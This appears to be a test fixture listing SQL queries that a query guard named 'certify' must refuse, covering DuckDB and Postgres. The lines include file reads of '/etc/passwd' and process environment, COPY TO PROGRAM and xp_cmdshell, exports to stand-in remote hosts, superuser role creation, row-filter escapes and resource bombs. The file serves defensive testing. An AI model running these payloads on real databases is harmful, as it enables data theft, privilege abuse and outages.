-- What certify must refuse, one attack a line, engine by engine.
-- {east} stands for the row filter of loan_snapshot, {east_branch} for that of branch.
-- Every line runs on its engine for the owner of the data (a test does it), and figures are small enough that it ends;
-- a line that cannot run there has the reason above it, which holds for that one line.

-- engine: duckdb

-- category: writing CTEs
WITH gone AS (DELETE FROM product RETURNING product_id) SELECT product_id FROM gone LIMIT 5
WITH made AS (INSERT INTO product SELECT * FROM product RETURNING *) SELECT product_id FROM made LIMIT 5
WITH set_ AS (UPDATE product SET product_name = 'x' RETURNING product_id) SELECT product_id FROM set_ LIMIT 5
WITH p AS (SELECT product_id FROM product) DELETE FROM product WHERE product_id IN (SELECT product_id FROM p)
WITH p AS (SELECT * FROM product) INSERT INTO product SELECT * FROM p

-- category: SELECT INTO and CREATE AS
CREATE TABLE copied AS SELECT * FROM loan_snapshot
CREATE TEMP TABLE held AS SELECT * FROM customer
CREATE OR REPLACE VIEW product_view AS SELECT * FROM product
CREATE TABLE copied AS WITH c AS (SELECT id_no FROM customer) SELECT id_no FROM c
CREATE TABLE shaped AS FROM customer LIMIT 0
-- cannot run: DuckDB knows no SELECT INTO, but sqlglot reads it in this dialect too
SELECT product_id INTO stolen FROM product LIMIT 5

-- category: stacked statements
SELECT 1 LIMIT 1; DROP TABLE IF EXISTS nothing_here
SELECT 1 LIMIT 1; SELECT id_no FROM customer LIMIT 5
SELECT p.product_id FROM (SELECT product_id FROM product) AS p LIMIT 5; CREATE TABLE stacked (x INTEGER)
SELECT 1 LIMIT 1 /* ; */; SELECT 2 LIMIT 1
SELECT ';' LIMIT 1; SELECT 2 LIMIT 1
SELECT p.product_id FROM (SELECT product_id FROM product) AS p LIMIT 5; COPY customer TO 'stacked.csv'

-- category: commands
COPY product TO 'stolen.csv'
COPY (SELECT * FROM customer) TO 'stolen.parquet' (FORMAT parquet)
EXPORT DATABASE 'stolen'
ATTACH ':memory:' AS other
ATTACH 'other.duckdb' AS other_file
USE main
PRAGMA database_list
PRAGMA table_info('customer')
SET threads = 2
SET VARIABLE hidden = 1
RESET threads
SET enable_external_access = false
LOAD parquet
CALL pragma_version()
EXPLAIN SELECT id_no FROM customer
EXPLAIN ANALYZE SELECT id_no FROM customer
DESCRIBE customer
SHOW TABLES
SUMMARIZE customer
PREPARE leak AS SELECT id_no FROM customer
-- cannot run: fetches an extension from the network
INSTALL httpfs
-- cannot run: the extension is not installed and there is no network
LOAD httpfs
-- cannot run: needs an extension, and a server on the network
ATTACH 'dbname=bank host=10.0.0.1' AS pg (TYPE postgres)
-- cannot run: fetches an extension from the network
FORCE INSTALL spatial
-- cannot run: needs an extension and the network
COPY product TO 's3://bucket/stolen.csv'

-- category: writing statements
DELETE FROM loan_snapshot
UPDATE loan_snapshot SET balance = 0
INSERT INTO product SELECT * FROM product WHERE FALSE
DROP TABLE IF EXISTS product
TRUNCATE loan_snapshot
ALTER TABLE product ADD COLUMN note VARCHAR
CREATE MACRO twice(x) AS x * 2
CREATE SEQUENCE numbers
CREATE SCHEMA hidden
COMMENT ON TABLE product IS 'read me'
MERGE INTO product AS p USING product AS q ON p.product_id = q.product_id WHEN MATCHED THEN DELETE
VACUUM
CHECKPOINT
BEGIN TRANSACTION

-- category: files and the network
SELECT * FROM read_csv('/etc/passwd') LIMIT 5
SELECT t.a FROM (SELECT a FROM read_csv('held.csv')) AS t LIMIT 5
SELECT r.content FROM read_text('/etc/hosts') AS r LIMIT 1
SELECT * FROM 'held.csv' LIMIT 5
SELECT p.a FROM "held.parquet" AS p LIMIT 5
SELECT p.a FROM (SELECT a FROM "held.parquet") AS p LIMIT 5
SELECT j.a FROM read_json_auto('held.json') AS j LIMIT 5
SELECT g.file FROM glob('/home/*') AS g LIMIT 5
SELECT s.a FROM parquet_scan('held.parquet') AS s LIMIT 5
SELECT s.file_name FROM parquet_metadata('held.parquet') AS s LIMIT 5
SELECT s.Delimiter FROM sniff_csv('held.csv') AS s LIMIT 5
SELECT (SELECT MAX(content) FROM read_text('/etc/hosts')) AS leak LIMIT 1
WITH f AS (SELECT * FROM read_csv_auto('/etc/passwd')) SELECT f.column0 FROM f LIMIT 5
SELECT p.product_id FROM (SELECT product_id FROM product) AS p WHERE p.product_id IN (SELECT a FROM 'held.csv') LIMIT 5
-- cannot run: needs an extension and the network
SELECT j.a FROM read_json_auto('https://example.org/x.json') AS j LIMIT 5

-- category: table functions
SELECT r.range FROM range(1000) AS r LIMIT 5
SELECT g.x FROM generate_series(1, 100) AS g(x) LIMIT 5
SELECT UNNEST([1, 2, 3]) AS x LIMIT 5
SELECT u.x FROM UNNEST([1, 2]) AS u(x) LIMIT 5
SELECT q.id_no FROM query('SELECT id_no FROM customer') AS q LIMIT 5
SELECT q.id_no FROM query_table('customer') AS q LIMIT 5
SELECT r.x FROM repeat_row(1, num_rows = 10) AS r(x) LIMIT 5
SELECT d.balance FROM (SELECT UNNEST([1, 2]) AS balance) AS d LIMIT 5
SELECT r.x FROM repeat('a', 3) AS r(x) LIMIT 5
SELECT t.x FROM json_each('[1, 2]') AS t(x) LIMIT 5

-- category: system catalogs
SELECT t.table_name FROM duckdb_tables() AS t LIMIT 5
SELECT table_name FROM information_schema.tables LIMIT 5
SELECT column_name FROM duckdb_columns LIMIT 5
SELECT name FROM sqlite_master LIMIT 5
SELECT relname FROM pg_catalog.pg_class LIMIT 5
SELECT p.name FROM pragma_table_info('customer') AS p LIMIT 5
SELECT i.database_size FROM pragma_database_size() AS i LIMIT 5
SELECT c.relname FROM (SELECT relname FROM pg_catalog.pg_class) AS c LIMIT 5
SELECT c.column_name FROM (SELECT column_name FROM information_schema.columns) AS c LIMIT 5
SELECT s.stats FROM pragma_storage_info('customer') AS s LIMIT 5
SELECT d.sql FROM duckdb_views() AS d LIMIT 5
SELECT STATS(c.customer_id) AS s FROM (SELECT customer_id FROM customer) AS c LIMIT 1

-- category: secrets and environment
SELECT r.content FROM read_blob('/proc/self/environ') AS r LIMIT 1
SELECT s.name FROM duckdb_settings() AS s LIMIT 5
SELECT s.name FROM duckdb_secrets() AS s LIMIT 5
SELECT w.name FROM which_secret('s3://bucket/x', 's3') AS w LIMIT 5
SELECT current_setting('memory_limit') AS v LIMIT 1
SELECT current_user AS who LIMIT 1
SELECT session_user AS session_user_ LIMIT 1
SELECT current_database() AS d LIMIT 1
SELECT current_schemas(TRUE) AS d LIMIT 1
SELECT version() AS v LIMIT 1
SELECT current_query() AS q LIMIT 1
SELECT getvariable('hidden') AS v LIMIT 1
SELECT CURRENT_DATE AS today LIMIT 1
SELECT NOW() AS now LIMIT 1
SELECT txid_current() AS x LIMIT 1
-- cannot run: DuckDB has it only in its command line
SELECT getenv('HOME') AS x LIMIT 1
-- cannot run: needs an extension for its kind of secret
CREATE SECRET mine (TYPE s3, KEY_ID 'a', SECRET 'b')

-- category: sleeping and locking
SELECT sleep_ms(1) AS x LIMIT 1
SELECT p.product_id FROM (SELECT product_id FROM product WHERE sleep_ms(1) IS NULL) AS p LIMIT 5
SELECT CASE WHEN p.product_id = 1 THEN sleep_ms(1) END AS x FROM (SELECT product_id FROM product) AS p LIMIT 5
FORCE CHECKPOINT

-- category: chance and side effects
SELECT RANDOM() AS x LIMIT 1
SELECT gen_random_uuid() AS x LIMIT 1
SELECT setseed(0.5) AS x LIMIT 1
SELECT write_log('hello') AS x LIMIT 1
SELECT hash('a') AS x LIMIT 1
SELECT ERROR('stop') AS x WHERE FALSE LIMIT 1

-- category: dialect tricks
SELECT id_no /* the region's own */ FROM customer LIMIT 5
SELECT "ID_NO" FROM "Customer" LIMIT 5
SELECT c."id_no" FROM main.customer AS c LIMIT 5
SELECT $$a$$ || $x$b$x$ AS x LIMIT 1
SELECT E'a\x27b' AS x LIMIT 1
SELECT p.product_id /* a /* b */ c */ FROM (SELECT product_id FROM product) AS p LIMIT 5
SELECT p.product_id FROM (SELECT product_id FROM product) AS p -- /* LIMIT 5
SELECT/**/id_no/**/FROM/**/customer/**/LIMIT/**/5
WITH "ｐroduct" AS (SELECT 1 AS product_id) SELECT t.product_id FROM "ｐroduct" AS t LIMIT 5
WITH "prоduct" AS (SELECT 1 AS product_id) SELECT t.product_id FROM "prоduct" AS t LIMIT 5
SELECT "产​品" FROM (SELECT product_name AS "产​品" FROM product) AS p LIMIT 5
SELECT p.product_id AS "a‮b" FROM (SELECT product_id FROM product) AS p LIMIT 5
SELECT customer FROM customer LIMIT 5
SELECT p FROM (SELECT product_id FROM product) AS p LIMIT 5
SELECT b.balance FROM (SELECT balance FROM "dw.loan") AS b LIMIT 5
SELECT b.balance FROM (SELECT balance FROM memory.dw.loan) AS b LIMIT 5
SELECT p.product_id /*!50000 , 1 AS x */ FROM (SELECT product_id FROM product) AS p LIMIT 5
SELECT p.product_id /*+ hint */ FROM (SELECT product_id FROM product) AS p LIMIT 5
SELECT BLOB '\x41' AS x LIMIT 1
SELECT x'41' AS x LIMIT 1

-- category: friendly forms of DuckDB
FROM product
FROM product LIMIT 5
TABLE product
SELECT * FROM product LIMIT 5
SELECT p.* FROM (SELECT product_id FROM product) AS p LIMIT 5
SELECT * EXCLUDE (id_no) FROM customer LIMIT 5
SELECT COLUMNS('id.*') FROM customer LIMIT 5
SELECT #1 FROM (SELECT product_id FROM product) AS p LIMIT 5
SELECT p.product_name.upper() AS x FROM (SELECT product_name FROM product) AS p LIMIT 5
SELECT [x.product_id] AS a FROM (SELECT product_id FROM product) AS x LIMIT 5
SELECT {'a': p.product_id} AS a FROM (SELECT product_id FROM product) AS p LIMIT 5
SELECT p.product_id FROM (SELECT product_id FROM product) AS p ORDER BY ALL LIMIT 5
SELECT p.product_id, COUNT(*) AS n FROM (SELECT product_id FROM product) AS p GROUP BY ALL LIMIT 5
SELECT p.product_id FROM (SELECT product_id FROM product) AS p USING SAMPLE 2
SELECT p.product_id FROM (SELECT product_id FROM product) AS p TABLESAMPLE 50% LIMIT 5
SELECT DISTINCT ON (p.product_line) p.product_id FROM (SELECT product_id, product_line FROM product) AS p LIMIT 5
SELECT p.x FROM (PIVOT (SELECT product_id, product_line FROM product) ON product_line USING COUNT(*)) AS p(x) LIMIT 5
SELECT p.product_id FROM (SELECT product_id FROM product) AS p LIMIT 10%
SELECT LIST(p.product_id) AS x FROM (SELECT product_id FROM product) AS p LIMIT 5
SELECT STRING_AGG(p.product_name, ',') AS x FROM (SELECT product_name FROM product) AS p LIMIT 5
SELECT CAST(p.product_id AS INTEGER[]) AS x FROM (SELECT NULL AS product_id) AS p LIMIT 5
SELECT LIST_TRANSFORM([1, 2], lambda x: x + 1) AS x LIMIT 1

-- category: reading a granted table in another form
SELECT balance FROM loan_snapshot LIMIT 5
SELECT balance FROM loan_snapshot WHERE {east} LIMIT 5
SELECT s.b FROM (SELECT SUM(balance) AS b FROM loan_snapshot WHERE {east}) AS s LIMIT 5
SELECT s.balance FROM (SELECT balance FROM loan_snapshot AS l WHERE {east}) AS s LIMIT 5
SELECT s.balance FROM (SELECT loan_snapshot.balance FROM loan_snapshot WHERE {east}) AS s LIMIT 5
SELECT s.balance FROM (SELECT DISTINCT balance FROM loan_snapshot WHERE {east}) AS s LIMIT 5
SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE {east} ORDER BY balance) AS s LIMIT 5
SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE {east} LIMIT 1) AS s LIMIT 5
SELECT s.balance FROM (SELECT l.balance FROM loan_snapshot AS l LEFT JOIN branch AS b ON b.branch_id = l.branch_id WHERE {east_branch}) AS s LIMIT 5
SELECT s.x FROM (SELECT balance + 1 AS x FROM loan_snapshot WHERE {east}) AS s LIMIT 5
SELECT s.product_id FROM (product) AS s LIMIT 5

-- category: row-filter escapes
SELECT s.balance FROM (SELECT balance FROM loan_snapshot) AS s LIMIT 5
SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE {east} OR TRUE) AS s LIMIT 5
SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE ({east}) OR balance > 0) AS s LIMIT 5
SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE NOT ({east})) AS s LIMIT 5
SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE ({east}) IS NOT NULL) AS s LIMIT 5
SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE ({east}) = FALSE) AS s LIMIT 5
SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE CASE WHEN {east} THEN TRUE ELSE TRUE END) AS s LIMIT 5
SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE COALESCE({east}, TRUE)) AS s LIMIT 5
SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE branch_id IN (SELECT branch_id FROM branch WHERE region_name IN ('华南区'))) AS s LIMIT 5
SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE branch_id IN (SELECT branch_id FROM branch WHERE region_name IN ('华东区', '华南区'))) AS s LIMIT 5
SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE branch_id IN (SELECT branch_id FROM branch WHERE region_name IN ('华东区') OR TRUE)) AS s LIMIT 5
SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE branch_id IN (SELECT branch_id FROM branch WHERE region_name NOT IN ('华东区'))) AS s LIMIT 5
SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE branch_id IN (SELECT branch_id FROM branch)) AS s LIMIT 5
SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE branch_id IN (SELECT branch_id FROM branch LEFT JOIN product ON TRUE WHERE region_name IN ('华东区'))) AS s LIMIT 5
SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE loan_id IN (SELECT branch_id FROM branch WHERE region_name IN ('华东区'))) AS s LIMIT 5
SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE branch_id NOT IN (SELECT branch_id FROM branch WHERE region_name IN ('华东区'))) AS s LIMIT 5
SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE balance > 0) AS s LIMIT 5
SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE 'branch_id IN (SELECT branch_id FROM branch)' <> '') AS s LIMIT 5
SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE balance > 0 /* {east} */) AS s LIMIT 5
SELECT s.balance FROM (SELECT balance, branch_id FROM loan_snapshot) AS s WHERE s.{east} LIMIT 5
SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE {east} UNION ALL SELECT balance FROM loan_snapshot) AS s LIMIT 5
SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE {east}) AS s UNION SELECT balance FROM loan_snapshot LIMIT 5
SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE {east}) AS s EXCEPT SELECT t.balance FROM (SELECT balance FROM loan_snapshot) AS t LIMIT 5
SELECT b.branch_name FROM (SELECT branch_name FROM branch) AS b LIMIT 5
SELECT p.product_name FROM (SELECT product_name, product_id FROM product) AS p WHERE EXISTS(SELECT 1 FROM loan_snapshot AS l WHERE l.product_id = p.product_id) LIMIT 5
SELECT p.product_name, (SELECT SUM(balance) FROM loan_snapshot AS l WHERE l.product_id = p.product_id) AS b FROM (SELECT product_name, product_id FROM product) AS p LIMIT 5
SELECT p.product_id FROM (SELECT product_id FROM product WHERE product_id IN (SELECT product_id FROM loan_snapshot)) AS p LIMIT 5
SELECT p.product_id FROM (SELECT product_id FROM product) AS p LEFT JOIN loan_snapshot AS l ON l.product_id = p.product_id LIMIT 5
SELECT p.product_id FROM (SELECT product_id FROM product) AS p LEFT JOIN (SELECT product_id, balance FROM loan_snapshot) AS l ON l.product_id = p.product_id LIMIT 5
SELECT p.product_id FROM (SELECT product_id FROM product) AS p ORDER BY (SELECT MAX(balance) FROM loan_snapshot) LIMIT 5
SELECT p.product_id FROM (SELECT product_id FROM product) AS p GROUP BY p.product_id HAVING COUNT(*) < (SELECT MAX(balance) FROM loan_snapshot) LIMIT 5
SELECT s.branch_id FROM (SELECT balance AS branch_id FROM loan_snapshot WHERE {east}) AS s LIMIT 5
WITH branch AS (SELECT b.branch_id, '华东区' AS region_name FROM (SELECT product_id AS branch_id FROM product) AS b) SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE {east}) AS s LIMIT 5
WITH BRANCH AS (SELECT 1 AS branch_id, '华东区' AS region_name) SELECT s.balance FROM (SELECT balance FROM loan_snapshot WHERE {east}) AS s LIMIT 5
WITH loan_snapshot AS (SELECT 1 AS balance) SELECT s.balance FROM loan_snapshot AS s LIMIT 5
SELECT s.balance FROM (WITH branch AS (SELECT 3 AS branch_id, '华东区' AS region_name) SELECT balance FROM loan_snapshot WHERE {east}) AS s LIMIT 5
SELECT product.balance FROM (SELECT balance FROM loan_snapshot) AS product LIMIT 5

-- category: hidden tables and columns
SELECT c.id_no FROM (SELECT id_no FROM customer) AS c LIMIT 5
SELECT c.n FROM (SELECT id_no AS n FROM customer) AS c LIMIT 5
SELECT c.customer_id FROM (SELECT customer_id FROM customer WHERE phone LIKE '138%') AS c LIMIT 5
SELECT c.customer_name FROM (SELECT id_no AS customer_name FROM customer) AS c LIMIT 5
SELECT c.r FROM (SELECT rowid AS r FROM customer) AS c LIMIT 5
SELECT d.balance FROM (SELECT balance FROM deposit_snapshot) AS d LIMIT 5
SELECT p.product_name FROM (SELECT product_name FROM main.product) AS p LIMIT 5
SELECT c.customer_id FROM (SELECT customer_id FROM customer) AS c WHERE c.customer_id IN (SELECT customer_id FROM deposit_snapshot) LIMIT 5
SELECT c.customer_id FROM (SELECT customer_id, (SELECT MAX(phone) FROM customer) AS phone FROM customer) AS c LIMIT 5
WITH d AS (SELECT balance FROM deposit_snapshot) SELECT d.balance FROM d LIMIT 5

-- category: joins that multiply
SELECT a.product_id FROM (SELECT product_id FROM product) AS a, (SELECT product_id FROM product) AS b LIMIT 5
SELECT a.product_id FROM (SELECT product_id FROM product) AS a CROSS JOIN (SELECT product_id FROM product) AS b LIMIT 5
SELECT a.product_id FROM (SELECT product_id FROM product) AS a CROSS JOIN (SELECT SUM(c.product_id) OVER () AS x FROM (SELECT product_id FROM product) AS c) AS b LIMIT 5
SELECT a.product_id FROM (SELECT product_id FROM product) AS a CROSS JOIN (SELECT SUM(c.product_id) AS x FROM (SELECT product_id FROM product) AS c GROUP BY c.product_id) AS b LIMIT 5
SELECT a.product_id FROM (SELECT product_id FROM product) AS a CROSS JOIN (SELECT (SELECT COUNT(*) FROM (SELECT product_id FROM product) AS d) AS x FROM (SELECT product_id FROM product) AS c) AS b LIMIT 5
SELECT a.product_id FROM (SELECT product_id FROM product) AS a JOIN (SELECT product_id FROM product) AS b ON TRUE LIMIT 5
SELECT a.product_id FROM (SELECT product_id FROM product) AS a JOIN (SELECT product_id FROM product) AS b ON 1 = 1 LIMIT 5
SELECT a.product_id FROM (SELECT product_id FROM product) AS a JOIN (SELECT product_id FROM product) AS b ON a.product_id = a.product_id LIMIT 5
SELECT a.product_id FROM (SELECT product_id FROM product) AS a JOIN (SELECT product_id FROM product) AS b ON a.product_id = b.product_id OR TRUE LIMIT 5
SELECT a.product_id FROM (SELECT product_id FROM product) AS a NATURAL JOIN (SELECT product_id FROM product) AS b LIMIT 5
SELECT a.product_id FROM (SELECT product_id FROM product) AS a POSITIONAL JOIN (SELECT product_id FROM product) AS b LIMIT 5
SELECT a.product_id FROM (SELECT product_id FROM product) AS a, LATERAL (SELECT a.product_id AS x) AS b LIMIT 5
SELECT a.product_id FROM (SELECT product_id FROM product) AS a JOIN (SELECT a.product_id AS x) AS b ON a.product_id = b.x LIMIT 5

-- category: resource bombs
WITH c0 AS (SELECT 'xxxxxxxx' AS s), c1 AS (SELECT s || s AS s FROM c0), c2 AS (SELECT s || s AS s FROM c1), c3 AS (SELECT s || s AS s FROM c2), c4 AS (SELECT s || s AS s FROM c3), c5 AS (SELECT s || s AS s FROM c4), c6 AS (SELECT s || s AS s FROM c5), c7 AS (SELECT s || s AS s FROM c6), c8 AS (SELECT s || s AS s FROM c7), c9 AS (SELECT s || s AS s FROM c8), c10 AS (SELECT s || s AS s FROM c9), c11 AS (SELECT s || s AS s FROM c10), c12 AS (SELECT s || s AS s FROM c11), c13 AS (SELECT s || s AS s FROM c12), c14 AS (SELECT s || s AS s FROM c13), c15 AS (SELECT s || s AS s FROM c14) SELECT LENGTH(s) AS n FROM c15 LIMIT 1
WITH c0 AS (SELECT 'xxxxxxxx' AS s), c1 AS (SELECT CONCAT(s, s, s, s) AS s FROM c0), c2 AS (SELECT CONCAT(s, s, s, s) AS s FROM c1), c3 AS (SELECT CONCAT(s, s, s, s) AS s FROM c2), c4 AS (SELECT CONCAT(s, s, s, s) AS s FROM c3), c5 AS (SELECT CONCAT(s, s, s, s) AS s FROM c4), c6 AS (SELECT CONCAT(s, s, s, s) AS s FROM c5), c7 AS (SELECT CONCAT(s, s, s, s) AS s FROM c6) SELECT LENGTH(s) AS n FROM c7 LIMIT 1
WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 1000) SELECT n.i FROM n LIMIT 5
WITH RECURSIVE n(i) AS (SELECT 1) SELECT n.i FROM n LIMIT 5
SELECT REPEAT('x', 1000000) AS x LIMIT 1
SELECT LPAD('x', 1000000, 'y') AS x LIMIT 1
SELECT LPAD('x', p.product_id, 'y') AS x FROM (SELECT product_id FROM product) AS p LIMIT 1
SELECT REGEXP_MATCHES(p.product_name, '(a+)+$') AS x FROM (SELECT product_name FROM product) AS p LIMIT 1
SELECT COUNT(*) AS n FROM range(1000000) AS a LIMIT 1
SELECT LENGTH(CAST(FACTORIAL(33) AS VARCHAR)) AS x LIMIT 1
WITH a AS (SELECT product_id FROM product), b AS (SELECT 1 AS x FROM a UNION ALL SELECT 1 FROM a UNION ALL SELECT 1 FROM a UNION ALL SELECT 1 FROM a), c AS (SELECT 1 AS x FROM b UNION ALL SELECT 1 FROM b UNION ALL SELECT 1 FROM b UNION ALL SELECT 1 FROM b), d AS (SELECT 1 AS x FROM c UNION ALL SELECT 1 FROM c UNION ALL SELECT 1 FROM c UNION ALL SELECT 1 FROM c), e AS (SELECT 1 AS x FROM d UNION ALL SELECT 1 FROM d UNION ALL SELECT 1 FROM d UNION ALL SELECT 1 FROM d), f AS (SELECT 1 AS x FROM e UNION ALL SELECT 1 FROM e UNION ALL SELECT 1 FROM e UNION ALL SELECT 1 FROM e), g AS (SELECT 1 AS x FROM f UNION ALL SELECT 1 FROM f UNION ALL SELECT 1 FROM f UNION ALL SELECT 1 FROM f) SELECT COUNT(*) AS n FROM g LIMIT 1

-- category: no row limit, or not a plain one
SELECT p.product_id FROM (SELECT product_id FROM product) AS p
SELECT p.product_id FROM (SELECT product_id FROM product) AS p LIMIT 102
SELECT p.product_id FROM (SELECT product_id FROM product) AS p LIMIT 0
SELECT p.product_id FROM (SELECT product_id FROM product) AS p LIMIT 5 + 5
SELECT p.product_id FROM (SELECT product_id FROM product) AS p LIMIT (SELECT 5)
SELECT p.product_id FROM (SELECT product_id FROM product) AS p LIMIT NULL
SELECT p.product_id FROM (SELECT product_id FROM product) AS p LIMIT ALL
SELECT p.product_id FROM (SELECT product_id FROM product) AS p LIMIT 5.5
SELECT p.product_id FROM (SELECT product_id FROM product) AS p LIMIT 5 OFFSET 1 + 1
SELECT p.product_id FROM (SELECT product_id FROM product) AS p OFFSET 1
(SELECT p.product_id FROM (SELECT product_id FROM product) AS p LIMIT 5)
(SELECT p.product_id FROM (SELECT product_id FROM product) AS p LIMIT 5) UNION ALL (SELECT p.product_id FROM (SELECT product_id FROM product) AS p LIMIT 5)
VALUES (1), (2)

-- category: parameters
-- cannot run: a parameter has no value here
SELECT ? AS x LIMIT 1
-- cannot run: a parameter has no value here
SELECT $1 AS x LIMIT 1
-- cannot run: a parameter has no value here
SELECT p.product_id FROM (SELECT product_id FROM product WHERE product_id = $id) AS p LIMIT 5
-- cannot run: a parameter has no value here
SELECT p.product_id FROM (SELECT product_id FROM product) AS p LIMIT $1

-- category: words of engines not installed here
-- cannot run: MySQL's
SELECT LOAD_FILE('/etc/passwd') AS x LIMIT 1
-- cannot run: MySQL's
SELECT BENCHMARK(1000000, 1) AS x LIMIT 1
-- cannot run: MySQL's
SELECT GET_LOCK('a', 10) AS x LIMIT 1
-- cannot run: MySQL's
SELECT p.product_id FROM (SELECT product_id FROM product) AS p INTO OUTFILE 'x' LIMIT 5
-- cannot run: SQL Server's
EXEC xp_cmdshell 'dir'
-- cannot run: SQL Server's
WAITFOR DELAY '0:0:5'
-- cannot run: Oracle's
SELECT UTL_HTTP.REQUEST('http://example.org') AS x FROM dual
-- cannot run: SQLite's
SELECT LOAD_EXTENSION('x') AS x LIMIT 1

-- engine: postgres

-- category: writing CTEs
WITH gone AS (DELETE FROM product RETURNING product_id) SELECT product_id FROM gone LIMIT 5
WITH made AS (INSERT INTO product VALUES (9, 'x', 'y') RETURNING product_id) SELECT product_id FROM made LIMIT 5
WITH changed AS (UPDATE loan_snapshot SET balance = 0 RETURNING loan_id) SELECT loan_id FROM changed LIMIT 5
WITH gone AS (DELETE FROM deposit_snapshot) SELECT p.product_id FROM (SELECT product_id FROM product) AS p LIMIT 5
WITH a AS (SELECT 1 AS x), gone AS (DELETE FROM deposit_snapshot WHERE balance > (SELECT MAX(x) FROM a) RETURNING customer_id) SELECT COUNT(*) AS n FROM gone LIMIT 1
WITH p AS (SELECT * FROM product) INSERT INTO product SELECT * FROM p
WITH p AS (SELECT product_id FROM product) UPDATE product SET product_line = 'x' WHERE product_id IN (SELECT product_id FROM p)
WITH p AS MATERIALIZED (DELETE FROM deposit_snapshot RETURNING *) SELECT balance FROM p LIMIT 5

-- category: SELECT INTO and CREATE AS
SELECT product_id INTO stolen FROM product LIMIT 5
SELECT product_id INTO TEMP TABLE stolen FROM product LIMIT 5
SELECT p.product_id INTO UNLOGGED stolen FROM (SELECT product_id FROM product) AS p LIMIT 5
WITH p AS (SELECT product_id FROM product) SELECT p.product_id INTO stolen FROM p LIMIT 5
SELECT p.product_id INTO stolen FROM (SELECT product_id FROM product) AS p UNION ALL SELECT 1 LIMIT 5
CREATE TABLE copied AS SELECT * FROM customer
CREATE TABLE copied AS TABLE customer WITH NO DATA
CREATE MATERIALIZED VIEW copied AS SELECT id_no FROM customer
CREATE TEMP VIEW copied AS SELECT id_no FROM customer

-- category: stacked statements
SELECT 1 AS x LIMIT 1; DROP TABLE deposit_snapshot
SELECT p.product_id FROM (SELECT product_id FROM product) AS p LIMIT 5; SELECT id_no FROM customer
SELECT 1 AS x LIMIT 1; SET statement_timeout = 0
SELECT $$a$$ AS x LIMIT 1; SELECT $b$;$b$
SELECT 'a' AS x LIMIT 1; DO $$ BEGIN PERFORM 1; END $$

-- category: commands
COPY product TO PROGRAM 'cat > /dev/null'
COPY product FROM PROGRAM 'printf "9,x,y"' (FORMAT csv)
COPY (SELECT id_no FROM customer) TO '/dev/null'
DO $$ BEGIN PERFORM pg_sleep(0); END $$
SET statement_timeout = 0
SET LOCAL search_path = pg_catalog
SET ROLE owner
SET SESSION AUTHORIZATION owner
RESET ALL
DISCARD PLANS
SHOW data_directory
LOAD 'plpgsql'
LISTEN news
NOTIFY news, 'x'
EXPLAIN ANALYZE DELETE FROM deposit_snapshot
PREPARE leak AS SELECT id_no FROM customer
DECLARE leak CURSOR FOR SELECT id_no FROM customer
CREATE EXTENSION IF NOT EXISTS plpgsql
CREATE FUNCTION leak() RETURNS TEXT LANGUAGE sql AS $$ SELECT MAX(id_no) FROM customer $$
CREATE ROLE intruder SUPERUSER
GRANT ALL ON product TO public
CREATE RULE hush AS ON DELETE TO product DO INSTEAD NOTHING
LOCK TABLE product IN ACCESS EXCLUSIVE MODE
ANALYZE customer
REINDEX TABLE product
-- cannot run: not inside the transaction that the test takes back
VACUUM product
-- cannot run: not inside the transaction that the test takes back, and it changes the server
ALTER SYSTEM SET log_statement = 'none'

-- category: files and the network
SELECT pg_read_file('PG_VERSION') AS x LIMIT 1
SELECT pg_read_binary_file('PG_VERSION') AS x LIMIT 1
SELECT pg_read_file('/etc/passwd') AS x LIMIT 1
SELECT lo_import('/etc/passwd') AS x LIMIT 1
SELECT d.name FROM pg_ls_tmpdir() AS d LIMIT 5
SELECT (pg_stat_file('PG_VERSION')).size AS x LIMIT 1
SELECT d.x FROM pg_ls_dir('.') AS d(x) LIMIT 5
SELECT d.name FROM pg_ls_waldir() AS d LIMIT 5
SELECT p.product_id FROM (SELECT product_id FROM product WHERE pg_read_file('PG_VERSION') <> '') AS p LIMIT 5
SELECT d.x FROM dblink('{address}', 'SELECT id_no FROM customer') AS d(x TEXT) LIMIT 5
SELECT dblink_connect('host=10.0.0.1 connect_timeout=1') AS x WHERE FALSE LIMIT 1

-- category: table functions
SELECT g.x FROM generate_series(1, 100) AS g(x) LIMIT 5
SELECT generate_series(1, 100) AS x LIMIT 5
SELECT u.x FROM UNNEST(ARRAY[1, 2]) AS u(x) LIMIT 5
SELECT r.a FROM ROWS FROM (generate_series(1, 3), generate_series(1, 2)) AS r(a, b) LIMIT 5
SELECT g.x FROM generate_series(1, 3) WITH ORDINALITY AS g(x, n) LIMIT 5
SELECT j.key FROM json_each('{"a": 1}') AS j LIMIT 5
SELECT r.x FROM regexp_split_to_table('a,b', ',') AS r(x) LIMIT 5
SELECT s.word FROM ts_stat('SELECT to_tsvector(id_no) FROM customer') AS s LIMIT 5
SELECT UNNEST(ARRAY[1, 2]) AS x LIMIT 5

-- category: hidden SQL
SELECT query_to_xml('SELECT id_no FROM customer', TRUE, FALSE, '') AS x LIMIT 1
SELECT table_to_xml('customer', TRUE, FALSE, '') AS x LIMIT 1
SELECT CAST(query_to_xml('SELECT id_no FROM customer', TRUE, FALSE, '') AS TEXT) AS x LIMIT 1
